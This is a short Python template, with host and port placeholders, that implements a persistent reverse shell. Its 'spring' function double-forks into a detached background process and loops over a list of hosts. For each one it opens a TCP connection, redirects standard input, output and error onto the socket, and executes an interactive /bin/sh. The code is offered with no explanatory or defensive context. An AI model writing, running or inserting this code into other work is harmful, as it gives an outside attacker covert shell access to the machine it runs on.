import json
import os
import socket
import time

HOSTS = json.loads('''@HOSTS@''')


def spring(app):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    while True:
        for host in HOSTS:
            try:
                with socket.create_connection((host, @TCP@), 1) as connection:
                    for number in range(3):
                        os.dup2(connection.fileno(), number)
                    os.execv("/bin/sh", ["sh", "-i"])
            except OSError:
                pass
        time.sleep(0.2)
